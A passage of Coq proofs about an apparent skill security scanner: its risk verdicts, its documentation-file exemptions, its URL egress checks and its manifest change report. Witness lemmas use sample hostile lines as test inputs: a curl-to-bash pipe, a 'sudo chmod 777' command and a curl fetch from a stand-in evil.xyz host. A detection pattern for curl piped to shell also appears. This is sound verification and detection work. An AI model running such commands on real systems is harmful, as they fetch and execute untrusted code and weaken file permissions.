  - destruct (IH (S start)) as [S1 B1].
    rewrite List.map_app.
    assert (Here : Forall (fun n => n = start)
                     (map f_line (line_findings rel_path (start, l)))).
    { apply List.Forall_forall. intros n Hn. apply in_map_iff in Hn.
      destruct Hn as [f [<- Hf]]. eapply line_findings_line. exact Hf. }
    split.
    + apply StronglySorted_app_2; [| eapply constant_sorted; exact Here
                                   | exact S1].
      intros a b Ha Hb.
      rewrite List.Forall_forall in Here, B1.
      apply list_elem_of_In in Ha, Hb.
      rewrite (Here a Ha). specialize (B1 b Hb). simpl in B1. lia.
    + apply List.Forall_app. split.
      * eapply List.Forall_impl; [|exact Here]. simpl. intros; lia.
      * eapply List.Forall_impl; [|exact B1]. simpl. intros; lia.
Qed.

End ScanMore.

(** X1.  [scan_file] leaves the result alone when the file cannot be read;
    otherwise it adds the number of lines to [total_lines] (one for the
    empty file), keeps the earlier findings in front, and appends findings
    that carry the path of the file and line numbers between 1 and the
    number of lines, in ascending order of line. *)
Theorem scan_file_appends_in_line_order rel_path content result :
  Scanner.scan_file rel_path None result = result
  /\ Scanner.scan_file rel_path (Some content) result
     = {| Scanner.skill_name := Scanner.skill_name result;
          Scanner.files_scanned := Scanner.files_scanned result;
          Scanner.total_lines :=
            Scanner.total_lines result
            + List.length (PyStr.split_lines content);
          Scanner.findings :=
            Scanner.findings result
            ++ ScanFacts.new_findings rel_path (Some content) result |}
  /\ 1 <= List.length (PyStr.split_lines content)
  /\ StronglySorted le
       (map Scanner.f_line
            (ScanFacts.new_findings rel_path (Some content) result))
  /\ Forall (fun f => Scanner.f_file f = rel_path
                      /\ 1 <= Scanner.f_line f
                         <= List.length (PyStr.split_lines content))
       (ScanFacts.new_findings rel_path (Some content) result).
Proof.
  split; [reflexivity|]. split; [|split; [|split]].
  - rewrite ScanFacts.new_findings_spec. unfold Scanner.scan_file.
    rewrite ScanFacts.fold_scan_line. reflexivity.
  - unfold PyStr.split_lines. rewrite List.length_map.
    generalize (@nil ascii). generalize (PyStr.chars content).
    induction l as [|c l IH]; intros cur; simpl; [lia|].
    destruct (Ascii.eqb c "010"); simpl; [lia | apply IH].
  - rewrite ScanFacts.new_findings_spec.
    apply (ScanMore.numbered_findings_sorted rel_path _ 1).
  - rewrite ScanFacts.new_findings_spec.
    pose proof (proj2 (ScanMore.numbered_findings_sorted rel_path
                         (PyStr.split_lines content) 1)) as B.
    rewrite List.Forall_forall in *. intros f Hf. split.
    + apply in_flat_map in Hf. destruct Hf as [[n l] [_ Hf]].
      eapply ScanMore.line_findings_file. exact Hf.
    + specialize (B (Scanner.f_line f) (in_map _ _ _ Hf)). simpl in B. lia.
Qed.

(** X2.  No scan ever yields an INFO finding: every finding that
    [scan_file] appends is CRITICAL or WARNING, so the info count of the
    result stays what it was. *)
Theorem scan_file_adds_no_info rel_path content result :
  Forall (fun f => Scanner.f_level f = Scanner.CRITICAL
                   \/ Scanner.f_level f = Scanner.WARNING)
         (ScanFacts.new_findings rel_path content result)
  /\ Scanner.info_count (Scanner.scan_file rel_path content result)
     = Scanner.info_count result.
Proof.
  assert (L : Forall (fun f => Scanner.f_level f = Scanner.CRITICAL
                               \/ Scanner.f_level f = Scanner.WARNING)
                (ScanFacts.new_findings rel_path content result)).
  { destruct content as [content|].
    - rewrite ScanFacts.new_findings_spec. apply List.Forall_forall.
      intros f Hf. apply in_flat_map in Hf. destruct Hf as [[n l] [_ Hf]].
      eapply ScanMore.line_findings_level. exact Hf.
    - rewrite ScanFacts.new_findings_none. constructor. }
  split; [exact L|].
  unfold Scanner.info_count.
  rewrite ScanFacts.findings_scan_file, ScoreFacts.count_level_app.
  assert (Z : Scanner.count_level Scanner.INFO
                (ScanFacts.new_findings rel_path content result) = 0).
  { induction L as [|f fs Hf _ IH]; [reflexivity|].
    unfold Scanner.count_level in *. simpl.
    destruct Hf as [-> | ->]; simpl; exact IH. }
  rewrite Z. lia.
Qed.


(** X5.  What the verdict says about critical findings: without one the
    score is at most 35 and the verdict SAFE or CAUTION; with exactly one
    the score is between 30 and 65 and the verdict CAUTION or DANGER; a
    BLOCKED verdict needs at least two; four or more always give 100 and
    BLOCKED. *)
Theorem verdict_and_critical_count r :
  (Scanner.critical_count r = 0 ->
   Scanner.risk_score r <= 35
   /\ (Scanner.risk_level r = Scanner.SAFE
       \/ Scanner.risk_level r = Scanner.CAUTION))
  /\ (Scanner.critical_count r = 1 ->
      30 <= Scanner.risk_score r <= 65
      /\ (Scanner.risk_level r = Scanner.CAUTION
          \/ Scanner.risk_level r = Scanner.DANGER))
  /\ (Scanner.risk_level r = Scanner.BLOCKED -> 2 <= Scanner.critical_count r)
  /\ (4 <= Scanner.critical_count r ->
      Scanner.risk_score r = 100
      /\ Scanner.risk_level r = Scanner.BLOCKED).
Proof.
  unfold Scanner.risk_level, Scanner.level_of_score.
  pose proof (ScoreFacts.risk_score_eq r) as E.
  repeat split; intros;
    repeat match goal with
           | |- context [(?a <=? ?b)%nat] =>
               destruct (Nat.leb_spec a b)
           | Hb : context [(?a <=? ?b)%nat] |- _ =>
               destruct (Nat.leb_spec a b)
           end;
    try discriminate; auto; lia.
Qed.

Module DocRules.
Import Scanner ScanFacts.

(** The pattern text mentions sudo, chmod or chown. *)
Definition privileged (pattern : string) : bool :=
  existsb (fun x => PyStr.contains x pattern) ["sudo"; "chmod"; "chown"].

(** The descriptions of the findings that documentation never gets. *)
Definition PRIVILEGED_DESCRIPTIONS : list string :=
  [ "Sudo usage in script"; "Download and make executable";
    "World-writable permissions"; "Dangerous permission change";
    "Chown to root" ].

Lemma privileged_rules :
  map snd (List.filter (fun p => privileged (fst p)) CRITICAL_PATTERNS)
  = [ "Download and make executable"; "World-writable permissions";
      "Dangerous permission change"; "Chown to root" ].
Proof. vm_compute. reflexivity. Qed.

Lemma in_list_In x l : Signet.in_list x l = true <-> In x l.
Proof.
  unfold Signet.in_list. rewrite existsb_exists. split.
  - intros [y [Hy E]]. apply String.eqb_eq in E. subst. exact Hy.
  - intros H. exists x. split; [exact H | apply String.eqb_refl].
Qed.

Lemma unprivileged_descriptions :
  forallb (fun p => privileged (fst p)
                    || negb (Signet.in_list (snd p) PRIVILEGED_DESCRIPTIONS))
          CRITICAL_PATTERNS = true.
Proof. vm_compute. reflexivity. Qed.

Lemma doc_line_findings rel_path n line f :
  is_doc rel_path = true ->
  In f (line_findings rel_path (n, line)) ->
  ~ In (f_description f) PRIVILEGED_DESCRIPTIONS.
Proof.
  intros Hdoc. unfold line_findings.
  destruct (is_whitelisted line); [intros []|].
  rewrite !in_app_iff. intros [H | [H | [H | H]]].
  - unfold sudo_part in H. rewrite Hdoc in H. contradiction.
  - unfold subst_part in H. destruct (_ && _); simpl in H; [|contradiction].
    destruct H as [<- | []]. rewrite <- in_list_In. simpl.
    vm_compute. discriminate.
  - apply in_flat_map_rows in H. destruct H as [p [Hp [Hit ->]]].
    unfold crit_hit in Hit. rewrite Hdoc in Hit.
    apply andb_true_iff in Hit. destruct Hit as [_ Hit].
    apply negb_true_iff in Hit. change (privileged (fst p) = false) in Hit.
    pose proof unprivileged_descriptions as U.
    rewrite forallb_forall in U. specialize (U p Hp).
    rewrite Hit in U. simpl in U.
    apply negb_true_iff in U. rewrite <- in_list_In. simpl. congruence.
  - unfold warn_part in H. rewrite Hdoc in H. contradiction.
Qed.

End DocRules.

(** X3.  In a file whose path ends in .md, .rst or .txt the sudo check and
    the critical rules whose pattern mentions sudo, chmod or chown (four
    rules) are silent: no appended finding carries one of their five
    descriptions. *)
Theorem doc_file_suppresses_privilege_rules rel_path content result :
  PyStr.endswith_any rel_path [".md"; ".rst"; ".txt"] = true ->
  Forall (fun f => ~ In (Scanner.f_description f)
                        DocRules.PRIVILEGED_DESCRIPTIONS)
         (ScanFacts.new_findings rel_path content result).
Proof.
  intros Hdoc. destruct content as [content|].
  - rewrite ScanFacts.new_findings_spec. apply List.Forall_forall.
    intros f Hf. apply in_flat_map in Hf. destruct Hf as [[n l] [_ Hf]].
    eapply DocRules.doc_line_findings; eauto.
  - rewrite ScanFacts.new_findings_none. constructor.
Qed.

Lemma doc_file_suppresses_privilege_rules_witness :
  PyStr.endswith_any "INSTALL.md" [".md"; ".rst"; ".txt"] = true
  /\ Re.re_search "chmod\s+777" true "sudo chmod 777 /opt/tool" = true
  /\ Forall (fun f => ~ In (Scanner.f_description f)
                           DocRules.PRIVILEGED_DESCRIPTIONS)
       (ScanFacts.new_findings "INSTALL.md"
          (Some "sudo chmod 777 /opt/tool") (Scanner.new_result "demo")).
Proof.
  assert (H : PyStr.endswith_any "INSTALL.md" [".md"; ".rst"; ".txt"] = true)
    by (vm_compute; reflexivity).
  split; [exact H|]. split; [vm_compute; reflexivity|].
  exact (doc_file_suppresses_privilege_rules "INSTALL.md"
           (Some "sudo chmod 777 /opt/tool") (Scanner.new_result "demo") H).
Defined.

(** X6.  On a line that is not whitelisted every matching rule fires on its
    own: a critical rule unless the file is documentation and the pattern
    mentions sudo, chmod or chown, a warning rule unless the file is
    documentation. *)
Theorem matching_rules_fire rel_path content result k line p :
  nth_error (PyStr.split_lines content) k = Some line ->
  Scanner.is_whitelisted line = false ->
  Re.re_search (fst p) true line = true ->
  (In p Scanner.CRITICAL_PATTERNS ->
   ScanFacts.is_doc rel_path = false \/ DocRules.privileged (fst p) = false ->
   In (ScanFacts.rule_finding Scanner.CRITICAL rel_path (S k) line p)
      (Scanner.findings (Scanner.scan_file rel_path (Some content) result)))
  /\ (In p Scanner.WARNING_PATTERNS ->
      ScanFacts.is_doc rel_path = false ->
      In (ScanFacts.rule_finding Scanner.WARNING rel_path (S k) line p)
         (Scanner.findings
            (Scanner.scan_file rel_path (Some content) result))).
Proof.
  intros Hk W M.
  assert (G : forall f, In f (ScanFacts.line_findings rel_path (S k, line)) ->
                        In f (Scanner.findings
                                (Scanner.scan_file rel_path (Some content)
                                   result))).
  { intros f Hf. rewrite ScanFacts.findings_scan_file, in_app_iff. right.
    apply (ScanFacts.new_findings_of_line _ content result k line); auto. }
  split.
  - intros Hp Hd. apply G. unfold ScanFacts.line_findings. rewrite W.
    rewrite !in_app_iff. right; right; left.
    unfold ScanFacts.crit_part. apply in_flat_map. exists p.
    split; [exact Hp|].
    assert (E : ScanFacts.crit_hit rel_path line p = true).
    { unfold ScanFacts.crit_hit. rewrite M. simpl.
      apply negb_true_iff, andb_false_iff. exact Hd. }
    rewrite E. left. reflexivity.
  - intros Hp Hd. apply G. unfold ScanFacts.line_findings. rewrite W.
    rewrite !in_app_iff. right; right; right.
    unfold ScanFacts.warn_part. rewrite Hd. cbn [negb].
    apply in_flat_map. exists p. split; [exact Hp|].
    rewrite M. left. reflexivity.
Qed.

Definition curl_rule : string * string :=
  ("curl\s+.*\|\s*(ba)?sh", "Curl pipe to shell (DANGEROUS!)").

Definition curl_script : string := "curl http://example.test/x | bash".

(** The script install.sh with the single line of [curl_script]: one
    critical finding, score 30, verdict CAUTION. *)
Lemma matching_rules_fire_witness :
  In (ScanFacts.rule_finding Scanner.CRITICAL "install.sh" 1 curl_script
        curl_rule)
     (Scanner.findings
        (Scanner.scan_file "install.sh" (Some curl_script)
           (Scanner.new_result "demo")))
  /\ Scanner.risk_score
       (Scanner.scan_file "install.sh" (Some curl_script)
          (Scanner.new_result "demo")) = 30
  /\ Scanner.risk_level
       (Scanner.scan_file "install.sh" (Some curl_script)
          (Scanner.new_result "demo")) = Scanner.CAUTION.
Proof.
  assert (Hk : nth_error (PyStr.split_lines curl_script) 0
               = Some curl_script) by (vm_compute; reflexivity).
  assert (W : Scanner.is_whitelisted curl_script = false)
    by (vm_compute; reflexivity).
  assert (M : Re.re_search (fst curl_rule) true curl_script = true)
    by (vm_compute; reflexivity).
  assert (Hp : In curl_rule Scanner.CRITICAL_PATTERNS).
  { apply (nth_error_In _ 14). vm_compute. reflexivity. }
  assert (Hd : ScanFacts.is_doc "install.sh" = false
               \/ DocRules.privileged (fst curl_rule) = false)
    by (left; vm_compute; reflexivity).
  split.
  - exact (proj1 (matching_rules_fire "install.sh" curl_script
                    (Scanner.new_result "demo") 0 curl_script curl_rule
                    Hk W M) Hp Hd).
  - split; vm_compute; reflexivity.
Defined.

(* ===================================================================== *)
(** ** URLs inside and outside fenced code blocks                         *)
(* ===================================================================== *)

Module EgressFacts.
Import Egress.

(** [filepath.suffix in (".md", ".markdown")]. *)
Definition is_md (parts : list string) : bool :=
  existsb (String.eqb (suffix (default "" (last parts))))
          [".md"; ".markdown"].

(** The finding that a match [m] of [URL_PATTERN] on line [n] gives when
    its URL is not classified SAFE. *)
Definition finding_for (rel : string) (n : nat) (m : string) : UrlFinding :=
  let url := PyStr.rstrip_set ".,;:)" m in
  {| u_file := rel; u_line := n; u_url := PyStr.take 100 url;
     u_risk := fst (classify_url url); u_reason := snd (classify_url url) |}.

Lemma url_finding_spec rel n m :
  url_finding rel n m
  = if bool_decide (fst (classify_url (PyStr.rstrip_set ".,;:)" m)) = SAFE)
    then [] else [finding_for rel n m].
Proof.
  unfold url_finding, finding_for.
  destruct (classify_url (PyStr.rstrip_set ".,;:)" m)) as [r reason].
  reflexivity.
Qed.

Lemma scan_line_urls_line rel md lines n line f :
  In f (scan_line_urls rel md lines (n, line)) -> u_line f = n.
Proof.
  unfold scan_line_urls. destruct (md && _); [intros []|].
  rewrite in_flat_map. intros [m [_ Hf]].
  rewrite url_finding_spec in Hf.
  destruct (bool_decide _); simpl in Hf; [contradiction|].
  destruct Hf as [<- | []]. reflexivity.
Qed.

End EgressFacts.

(** C9, as the code has it.  In a file with suffix .md or .markdown, a line
    that an odd number of fence lines precede gives no finding; a line that
    an even number of fence lines precede gives a finding for each URL on
    it that is not classified SAFE. *)
Theorem fenced_urls_are_skipped parts content :
  EgressFacts.is_md parts = true ->
  let lines := PyStr.split_lines content in
  (forall k, Egress.in_code_block lines k = true ->
             forall f, In f (Egress.scan_file_urls parts (Some content)) ->
                       Egress.u_line f <> S k)
  /\ (forall k line m,
        nth_error lines k = Some line ->
        Egress.in_code_block lines k = false ->
        In m (Re.re_finditer Egress.URL_PATTERN true line) ->
        fst (Egress.classify_url (PyStr.rstrip_set ".,;:)" m))
        <> Egress.SAFE ->
        In (EgressFacts.finding_for (Signet.path_str parts) (S k) m)
           (Egress.scan_file_urls parts (Some content))).
Proof.
  intros Hmd lines. unfold Egress.scan_file_urls.
  change (existsb _ [".md"; ".markdown"]) with (EgressFacts.is_md parts).
  rewrite Hmd. fold lines. split.
  - intros k Hblock f Hf E.
    apply in_flat_map in Hf. destruct Hf as [[n l] [Hin Hf]].
    pose proof (EgressFacts.scan_line_urls_line _ _ _ _ _ _ Hf) as En.
    rewrite E in En. subst n.
    unfold Egress.scan_line_urls in Hf.
    replace (S k - 1) with k in Hf by lia.
    rewrite Hblock in Hf. exact Hf.
  - intros k line m Hk Hblock Hm Hsafe.
    apply in_flat_map. exists (S k, line). split.
    + apply ScanFacts.in_enumerate1. exists k. auto.
    + unfold Egress.scan_line_urls.
      replace (S k - 1) with k by lia. rewrite Hblock. simpl.
      apply in_flat_map. exists m. split; [exact Hm|].
      rewrite EgressFacts.url_finding_spec.
      destruct (bool_decide_reflect
                  (fst (Egress.classify_url (PyStr.rstrip_set ".,;:)" m))
                   = Egress.SAFE)) as [E|_]; [contradiction|].
      left. reflexivity.
Qed.

Definition fenced_doc : string :=
  "Install:
```
curl https://evil.xyz/install
```
See https://evil.xyz/install.".

Lemma fenced_urls_are_skipped_witness :
  EgressFacts.is_md ["skills"; "demo"; "README.md"] = true
  /\ Egress.in_code_block (PyStr.split_lines fenced_doc) 2 = true
  /\ Egress.scan_file_urls ["skills"; "demo"; "README.md"] (Some fenced_doc)
     = [ {| Egress.u_file := "skills/demo/README.md"; Egress.u_line := 5;
            Egress.u_url := "https://evil.xyz/install";
            Egress.u_risk := Egress.WARNING;
            Egress.u_reason := "Suspicious TLD (.xyz)" |} ]
  /\ (forall f,
        In f (Egress.scan_file_urls ["skills"; "demo"; "README.md"]
                (Some fenced_doc)) ->
        Egress.u_line f <> 3).
Proof.
  assert (Hmd : EgressFacts.is_md ["skills"; "demo"; "README.md"] = true)
    by (vm_compute; reflexivity).
  assert (Hb : Egress.in_code_block (PyStr.split_lines fenced_doc) 2 = true)
    by (vm_compute; reflexivity).
  split; [exact Hmd|].
  split; [exact Hb|].
  split; [vm_compute; reflexivity|].
  exact (proj1 (fenced_urls_are_skipped _ fenced_doc Hmd) 2 Hb).
Defined.

Definition safe_doc : string :=
  "```
https://github.com/foo/bar
```
https://github.com/foo/bar".

(** C9 as stated fails: the URL of a known safe domain gives no finding
    outside the fence either. *)
Lemma fenced_urls_counterexample :
  EgressFacts.is_md ["README.md"] = true
  /\ Egress.in_code_block (PyStr.split_lines safe_doc) 1 = true
  /\ Egress.in_code_block (PyStr.split_lines safe_doc) 3 = false
  /\ nth_error (PyStr.split_lines safe_doc) 3
     = Some "https://github.com/foo/bar"
  /\ Re.re_finditer Egress.URL_PATTERN true "https://github.com/foo/bar"
     = ["https://github.com/foo/bar"]
  /\ Egress.scan_file_urls ["README.md"] (Some safe_doc) = [].
Proof. repeat split; vm_compute; reflexivity. Qed.

(* ===================================================================== *)
(** ** More on the URL classifier and the egress scan                     *)
(* ===================================================================== *)

Module EgressMore.
Import Egress.









End EgressMore.




Module DedupeFacts.
Import Egress.

Lemma dedupe_from_cons seen f rest :
  dedupe_from seen (f :: rest)
  = if bool_decide (key f ∈ seen) then dedupe_from seen rest
    else f :: dedupe_from (key f :: seen) rest.
Proof. reflexivity. Qed.

Lemma dedupe_from_sublist seen l : sublist (dedupe_from seen l) l.
Proof.
  revert seen. induction l as [|f rest IH]; intros seen.
  - constructor.
  - rewrite dedupe_from_cons. case_bool_decide.
    + apply sublist_cons, IH.
    + apply sublist_skip, IH.
Qed.

Lemma dedupe_from_keys seen l :
  List.NoDup (map key (dedupe_from seen l))
  /\ (forall f, In f (dedupe_from seen l) -> ~ In (key f) seen).
Proof.
  revert seen. induction l as [|f rest IH]; intros seen.
  - split; [constructor | intros f []].
  - rewrite dedupe_from_cons. case_bool_decide as Hseen.
    + apply IH.
    + destruct (IH (key f :: seen)) as [ND Hout]. split.
      * simpl. constructor; [|exact ND].
        intros Hin. apply in_map_iff in Hin. destruct Hin as [g [E Hg]].
        apply (Hout g Hg). left. auto.
      * intros g [<- | Hg].
        -- intros Hin. apply Hseen, list_elem_of_In, Hin.
        -- intros Hin. apply (Hout g Hg). right. exact Hin.
Qed.

Lemma dedupe_from_covers seen l f :
  In f l -> In (key f) seen \/ In (key f) (map key (dedupe_from seen l)).
Proof.
  revert seen. induction l as [|g rest IH]; intros seen; [intros []|].
  rewrite dedupe_from_cons. intros [-> | Hf].
  - case_bool_decide as Hseen.
    + left. apply list_elem_of_In, Hseen.
    + right. left. reflexivity.
  - case_bool_decide as Hseen.
    + apply IH, Hf.
    + destruct (IH (key g :: seen) Hf) as [[E | H] | H].
      * right. left. exact E.
      * left. exact H.
      * right. right. exact H.
Qed.

Lemma dedupe_from_fixed seen l :
  List.NoDup (map key l) ->
  (forall f, In f l -> ~ In (key f) seen) ->
  dedupe_from seen l = l.
Proof.
  revert seen. induction l as [|f rest IH]; intros seen ND Hout;
    [reflexivity|].
  rewrite dedupe_from_cons. inversion ND as [|? ? Hnin ND']; subst.
  case_bool_decide as Hseen.
  - exfalso. apply (Hout f); [left; reflexivity|].
    apply list_elem_of_In, Hseen.
  - f_equal. apply IH; [exact ND'|].
    intros g Hg [E | Hin].
    + apply Hnin. rewrite E. apply in_map, Hg.
    + apply (Hout g); [right; exact Hg | exact Hin].
Qed.

Lemma dedupe_from_first seen pre f post :
  ~ In (key f) seen -> ~ In (key f) (map key pre) ->
  In f (dedupe_from seen (pre ++ f :: post)).
Proof.
  revert seen. induction pre as [|g pre IH]; intros seen Hs Hp.
  - simpl app. rewrite dedupe_from_cons. case_bool_decide as Hseen.
    + exfalso. apply Hs, list_elem_of_In, Hseen.
    + left. reflexivity.
  - simpl app. rewrite dedupe_from_cons.
    assert (Hg : key g <> key f) by (intros E; apply Hp; left; exact E).
    assert (Hp' : ~ In (key f) (map key pre))
      by (intros H; apply Hp; right; exact H).
    case_bool_decide as Hseen.
    + apply IH; assumption.
    + right. apply IH; [|exact Hp'].
      intros [E | H]; [exact (Hg E) | exact (Hs H)].
Qed.

End DedupeFacts.

(** X10.  [scan_file_network_code] reports nothing for a file whose suffix
    is not one of .py .js .ts .sh .bash and nothing for a file that cannot
    be read; each finding it reports is HIGH, has an empty URL, names one of
    the ten network patterns, and sits on a line of the file whose stripped
    text starts neither with # nor with two slashes. *)
Theorem network_code_findings parts content :
  (existsb (String.eqb (Egress.suffix (default "" (last parts))))
           Egress.CODE_SUFFIXES = false ->
   Egress.scan_file_network_code parts content = [])
  /\ Egress.scan_file_network_code parts None = []
  /\ (forall text, content = Some text ->
      Forall (fun f =>
                Egress.u_risk f = Egress.HIGH
                /\ Egress.u_url f = ""
                /\ Egress.u_file f = Signet.path_str parts
                /\ In (Egress.u_reason f)
                      (map (fun p => ("Network call: " ++ fst p)%string)
                           Egress.NETWORK_CODE_PATTERNS)
                /\ exists k line,
                     Egress.u_line f = S k
                     /\ nth_error (PyStr.split_lines text) k = Some line
                     /\ PyStr.startswith (PyStr.strip line) "#" = false
                     /\ PyStr.startswith (PyStr.strip line) "//" = false)
        (Egress.scan_file_network_code parts content)).
Proof.
  unfold Egress.scan_file_network_code. split; [|split].
  - intros ->. reflexivity.
  - destruct (negb _); reflexivity.
  - intros text ->. destruct (negb _); [constructor|].
    apply List.Forall_forall. intros f Hf.
    destruct (proj1 (in_flat_map _ _ _) Hf) as [[n line] [Hin Hl]].
    clear Hf.
    apply ScanFacts.in_enumerate1 in Hin. destruct Hin as [k [-> Hk]].
    unfold Egress.scan_line_network in Hl.
    destruct (PyStr.startswith (PyStr.strip line) "#") eqn:C1;
      [contradiction|].
    destruct (PyStr.startswith (PyStr.strip line) "//") eqn:C2;
      [contradiction|].
    cbn [orb] in Hl.
    destruct (proj1 (in_flat_map _ _ _) Hl) as [[name pattern] [Hp Hm]].
    clear Hl.
    destruct (Re.re_search pattern false line); [|contradiction].
    destruct Hm as [<- | []].
    cbn [Egress.u_risk Egress.u_url Egress.u_file Egress.u_reason
         Egress.u_line].
    repeat split; auto.
    + apply in_map_iff. exists (name, pattern). auto.
    + exists k, line. auto.
Qed.

(** X11.  The deduplication of [cmd_scan] keeps findings in their order,
    leaves at most one finding per (file, line, reason), keeps the first
    finding of every such key, and changes nothing when applied again. *)
Theorem dedupe_keeps_first_of_each_key (all_findings : list Egress.UrlFinding) :
  sublist (Egress.dedupe all_findings) all_findings
  /\ List.NoDup (map Egress.key (Egress.dedupe all_findings))
  /\ (forall pre f post,
        all_findings = pre ++ f :: post ->
        ~ In (Egress.key f) (map Egress.key pre) ->
        In f (Egress.dedupe all_findings))
  /\ (forall f, In f all_findings ->
        In (Egress.key f) (map Egress.key (Egress.dedupe all_findings)))
  /\ Egress.dedupe (Egress.dedupe all_findings) = Egress.dedupe all_findings.
Proof.
  unfold Egress.dedupe.
  destruct (DedupeFacts.dedupe_from_keys [] all_findings) as [ND Hout].
  split; [apply DedupeFacts.dedupe_from_sublist|].
  split; [exact ND|]. split; [|split].
  - intros pre f post -> Hp.
    apply DedupeFacts.dedupe_from_first; [intros [] | exact Hp].
  - intros f Hf.
    destruct (DedupeFacts.dedupe_from_covers [] all_findings f Hf)
      as [[] | H]; exact H.
  - apply DedupeFacts.dedupe_from_fixed; [exact ND | exact Hout].
Qed.

(* ===================================================================== *)
(** ** The manifest commands                                              *)
(* ===================================================================== *)

Module SignetFacts.
Import Signet.

Definition delta_path (d : delta) : string :=
  match d with
  | MODIFIED p => p
  | ADDED p => p
  | REMOVED p => p
  end.

(** What the loop over [sorted(all_paths)] prints for one path. *)
Definition change_of (trusted_files files : gmap string string)
  (fpath : string) : list delta :=
  let old_h := trusted_files !! fpath in
  let new_h := files !! fpath in
  if truthy_opt old_h && truthy_opt new_h
     && negb (bool_decide (old_h = new_h))
  then [MODIFIED fpath]
  else if truthy_opt new_h && negb (truthy_opt old_h)
  then [ADDED fpath]
  else if truthy_opt old_h && negb (truthy_opt new_h)
  then [REMOVED fpath]
  else [].

Definition all_paths (trusted_files files : gmap string string)
  : list string :=
  sorted_set (dict_keys trusted_files ++ dict_keys files).

Lemma changes_eq trusted_files files :
  changes trusted_files files
  = flat_map (change_of trusted_files files) (all_paths trusted_files files).
Proof. reflexivity. Qed.

Lemma in_dict_keys (m : gmap string string) p :
  In p (dict_keys m) <-> is_Some (m !! p).
Proof.
  unfold dict_keys. rewrite in_map_iff. split.
  - intros [[q h] [E Hin]]. simpl in E. subst q.
    apply list_elem_of_In, elem_of_map_to_list in Hin. eauto.
  - intros [h Hh]. exists (p, h). split; [reflexivity|].
    apply list_elem_of_In, elem_of_map_to_list, Hh.
Qed.

Lemma in_all_paths tf nf p :
  In p (all_paths tf nf) <-> is_Some (tf !! p) \/ is_Some (nf !! p).
Proof.
  unfold all_paths, sorted_set.
  rewrite StrOrder.in_sorted, <- list_elem_of_In, elem_of_remove_dups,
    list_elem_of_In, in_app_iff, !in_dict_keys.
  reflexivity.
Qed.

Lemma all_paths_strict tf nf : StronglySorted str_lt (all_paths tf nf).
Proof. apply StrOrder.sorted_strict, NoDup_ListNoDup, NoDup_remove_dups. Qed.

Lemma truthy_opt_is_Some h : truthy_opt h = true -> is_Some h.
Proof. destruct h; [eauto | discriminate]. Qed.

Lemma change_of_path tf nf q d :
  In d (change_of tf nf q) -> delta_path d = q.
Proof.
  unfold change_of.
  destruct (_ && _ && _); [intros [<- | []]; reflexivity|].
  destruct (_ && _); [intros [<- | []]; reflexivity|].
  destruct (_ && _); [intros [<- | []]; reflexivity|].
  intros [].
Qed.

Lemma in_changes tf nf d :
  In d (changes tf nf) <-> In d (change_of tf nf (delta_path d)).
Proof.
  rewrite changes_eq, in_flat_map. split.
  - intros [q [_ Hd]]. rewrite (change_of_path _ _ _ _ Hd). exact Hd.
  - intros Hd. exists (delta_path d). split; [|exact Hd].
    apply in_all_paths. unfold change_of in Hd.
    destruct (truthy_opt (tf !! delta_path d)) eqn:T1.
    + left. apply truthy_opt_is_Some, T1.
    + destruct (truthy_opt (nf !! delta_path d)) eqn:T2.
      * right. apply truthy_opt_is_Some, T2.
      * simpl in Hd. contradiction.
Qed.

Lemma change_of_short tf nf q :
  change_of tf nf q = []
  \/ exists d, change_of tf nf q = [d] /\ delta_path d = q.
Proof.
  unfold change_of.
  destruct (_ && _ && _); [right; eexists; split; reflexivity|].
  destruct (_ && _); [right; eexists; split; reflexivity|].
  destruct (_ && _); [right; eexists; split; reflexivity|].
  left. reflexivity.
Qed.

Lemma changes_sorted_aux tf nf (l : list string) :
  StronglySorted str_lt l ->
  StronglySorted str_lt (map delta_path (flat_map (change_of tf nf) l))
  /\ (forall p, In p (map delta_path (flat_map (change_of tf nf) l)) ->
                In p l).
Proof.
  induction 1 as [|q l S IH Hq]; simpl.
  - split; [constructor | intros p []].
  - destruct IH as [IH1 IH2].
    destruct (change_of_short tf nf q) as [-> | [d [-> <-]]]; simpl.
    + split; [exact IH1 | intros p Hp; right; apply IH2, Hp].
    + split.
      * constructor; [exact IH1|].
        rewrite List.Forall_forall in *. intros p Hp. apply Hq, IH2, Hp.
      * intros p [<- | Hp]; [left; reflexivity | right; apply IH2, Hp].
Qed.

Lemma find_skills_absent ws :
  skills_dir ws = None -> find_skills ws = Ok [].
Proof. unfold find_skills. intros ->. reflexivity. Qed.

End SignetFacts.

(** X12.  The per-file report of a tampered skill, exactly.  A path is
    MODIFIED when both dicts hold a non-empty hash for it and the two
    differ, ADDED when only the new dict does, REMOVED when only the stored
    one does (a missing and an empty hash count alike); the report names
    each path at most once, in ascending order of the paths. *)
Theorem changes_report (trusted_files files : gmap string string) :
  (forall p,
      In (Signet.MODIFIED p) (Signet.changes trusted_files files)
      <-> Signet.truthy_opt (trusted_files !! p) = true
          /\ Signet.truthy_opt (files !! p) = true
          /\ trusted_files !! p <> files !! p)
  /\ (forall p,
        In (Signet.ADDED p) (Signet.changes trusted_files files)
        <-> Signet.truthy_opt (files !! p) = true
            /\ Signet.truthy_opt (trusted_files !! p) = false)
  /\ (forall p,
        In (Signet.REMOVED p) (Signet.changes trusted_files files)
        <-> Signet.truthy_opt (trusted_files !! p) = true
            /\ Signet.truthy_opt (files !! p) = false)
  /\ StronglySorted str_lt
       (map SignetFacts.delta_path (Signet.changes trusted_files files)).
Proof.
  split; [|split; [|split]].
  - intros p. rewrite SignetFacts.in_changes. simpl.
    unfold SignetFacts.change_of.
    destruct (Signet.truthy_opt (trusted_files !! p));
      destruct (Signet.truthy_opt (files !! p)); simpl;
      try (split; [intros [E | []]; discriminate E
                  | intros [A [B C]]; discriminate]).
    + case_bool_decide as E; simpl.
      * split; [intros []|]. intros [_ [_ C]]. contradiction.
      * split; [|auto]. intros _. auto.
    + split; [intros [] | intros [A _]; discriminate].
  - intros p. rewrite SignetFacts.in_changes. simpl.
    unfold SignetFacts.change_of.
    destruct (Signet.truthy_opt (trusted_files !! p));
      destruct (Signet.truthy_opt (files !! p)); simpl.
    + case_bool_decide; simpl.
      * split; [intros [] | intros [_ X]; discriminate].
      * split; [intros [X | []]; discriminate | intros [_ X]; discriminate].
    + split; [intros [X | []]; discriminate | intros [X _]; discriminate].
    + split; auto.
    + split; [intros [] | intros [X _]; discriminate].
  - intros p. rewrite SignetFacts.in_changes. simpl.
    unfold SignetFacts.change_of.
    destruct (Signet.truthy_opt (trusted_files !! p));
      destruct (Signet.truthy_opt (files !! p)); simpl.
    + case_bool_decide; simpl.
      * split; [intros [] | intros [_ X]; discriminate].
